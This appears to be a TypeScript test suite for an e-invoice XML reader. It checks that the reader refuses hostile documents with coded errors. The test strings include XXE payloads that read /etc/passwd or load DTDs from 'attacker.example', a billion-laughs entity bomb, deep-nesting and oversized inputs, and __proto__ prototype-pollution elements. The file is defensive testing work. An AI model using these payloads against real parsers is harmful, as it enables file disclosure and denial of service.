import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { DEFAULT_XML_LIMITS, FormatError, readInvoiceXml } from '../../src/formats/index.ts';
import { FIXTURES } from './fixtures.ts';

const UBL_HEAD = '<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2" xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">';

/** Each hostile document must be refused with a FormatError of the given code and a French message. */
function refused(input: string | Uint8Array, code: string, message?: RegExp) {
  assert.throws(
    () => readInvoiceXml(input),
    (err: unknown) => {
      assert.ok(err instanceof FormatError, `expected a FormatError, got ${String(err)}`);
      assert.equal(err.code, code);
      if (message) assert.match(err.userMessage, message);
      return true;
    },
  );
}

test('XXE: an external entity is refused before anything is resolved', () => {
  refused(`<?xml version="1.0"?><!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${UBL_HEAD}<cbc:ID>&xxe;</cbc:ID></Invoice>`, 'XML_DOCTYPE_FORBIDDEN', /DOCTYPE/);
  refused(`<!DOCTYPE Invoice SYSTEM "http://attacker.example/x.dtd">${UBL_HEAD}</Invoice>`, 'XML_DOCTYPE_FORBIDDEN');
  refused(`<!doctype Invoice [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]>${UBL_HEAD}</Invoice>`, 'XML_DOCTYPE_FORBIDDEN');
});

test('billion laughs: nested entity definitions are refused at once, in bounded time', () => {
  const defs = ['<!ENTITY lol "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`)].join('');
  const started = performance.now();
  refused(`<?xml version="1.0"?><!DOCTYPE lolz [${defs}]>${UBL_HEAD}<cbc:ID>&lol9;</cbc:ID></Invoice>`, 'XML_DOCTYPE_FORBIDDEN');
  assert.ok(performance.now() - started < 100);
});

test('undeclared entity references stay literal text (no expansion without a DTD)', () => {
  const xml = readFileSync(path.join(FIXTURES, 'cen-en16931/ubl/examples/ubl-tc434-example1.xml'), 'utf8').replace('<cbc:ID>12115118</cbc:ID>', '<cbc:ID>&lol9; &amp;amp; &#233;</cbc:ID>');
  assert.equal(readInvoiceXml(xml).invoice.number, '&lol9; &amp; é');
});

test('deep nesting is refused before parsing', () => {
  const depth = 100_000;
  refused(`${UBL_HEAD}${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}</Invoice>`, 'XML_TOO_DEEP', /niveaux/);
  refused(`${UBL_HEAD}${'<a>'.repeat(DEFAULT_XML_LIMITS.maxDepth)}${'</a>'.repeat(DEFAULT_XML_LIMITS.maxDepth)}</Invoice>`, 'XML_TOO_DEEP');
});

test('an oversized document is refused on its length, before decoding', () => {
  const big = new Uint8Array(DEFAULT_XML_LIMITS.maxBytes + 1);
  refused(big, 'INPUT_TOO_LARGE', /taille maximale/);
  assert.throws(() => readInvoiceXml('<a/>'.repeat(10), { ...DEFAULT_XML_LIMITS, maxBytes: 10 }), { code: 'INPUT_TOO_LARGE' });
});

test('too many elements are refused', () => {
  assert.throws(() => readInvoiceXml(`${UBL_HEAD}${'<x/>'.repeat(1000)}</Invoice>`, { ...DEFAULT_XML_LIMITS, maxElements: 500 }), { code: 'XML_TOO_MANY_ELEMENTS' });
});

test('malformed XML gets a clear error with its position, never a partial result', () => {
  refused(`${UBL_HEAD}<cbc:ID>1</cbc:IssueDate></Invoice>`, 'XML_MALFORMED', /ligne 1/);
  refused(`${UBL_HEAD}<cbc:ID>1</cbc:ID>`, 'XML_MALFORMED');
  const truncated = readFileSync(path.join(FIXTURES, 'cen-en16931/cii/examples/CII_example1.xml'), 'utf8');
  refused(truncated.slice(0, truncated.length / 2), 'XML_MALFORMED');
  refused('', 'XML_MALFORMED');
  refused('not xml at all', 'XML_MALFORMED');
  refused(`${UBL_HEAD}</Invoice><Invoice/>`, 'XML_MALFORMED');
  refused(Uint8Array.from([0x3c, 0x61, 0x3e, 0xff, 0xfe, 0x3c, 0x2f, 0x61, 0x3e]), 'XML_MALFORMED', /UTF-8/);
});

test('a well-formed XML that is not an invoice is refused by name', () => {
  refused('<?xml version="1.0"?><html><body>facture</body></html>', 'NOT_AN_INVOICE', /« html »/);
  refused('<Invoice xmlns="urn:example:not-ubl"><ID>1</ID></Invoice>', 'NOT_AN_INVOICE', /urn:example:not-ubl/);
  refused('<Invoice><ID>1</ID></Invoice>', 'NOT_AN_INVOICE');
  refused('<rsm:CrossIndustryDocument xmlns:rsm="urn:ferd:CrossIndustryDocument:invoice:1p0"/>', 'NOT_AN_INVOICE', /ZUGFeRD 1\.0/);
});

test('an unsupported character encoding is refused; ISO-8859-1 is decoded', () => {
  refused(Buffer.from('<?xml version="1.0" encoding="EBCDIC-CP-US"?><a/>'), 'XML_ENCODING_UNSUPPORTED');
  const latin1 = Buffer.from(
    readFileSync(path.join(FIXTURES, 'cen-en16931/ubl/examples/ubl-tc434-example1.xml'), 'utf8')
      .replace('encoding="UTF-8"', 'encoding="ISO-8859-1"')
      .replace('De Koksmaat', 'Société Générale'),
    'latin1',
  );
  assert.equal(readInvoiceXml(latin1).invoice.seller.name, 'Société Générale');
});

test('elements named like JavaScript prototype keys are refused, and pollute nothing', () => {
  const xml = readFileSync(path.join(FIXTURES, 'cen-en16931/ubl/examples/ubl-tc434-example1.xml'), 'utf8').replace('<cbc:ID>12115118</cbc:ID>', '<cbc:ID>12115118</cbc:ID><__proto__><polluted>1</polluted></__proto__><constructor/>');
  refused(xml, 'XML_MALFORMED', /nom d'élément interdit/);
  refused(xml.replace('<constructor/>', ''), 'XML_MALFORMED', /« __proto__ »/);
  assert.equal(({} as Record<string, unknown>).polluted, undefined);
});
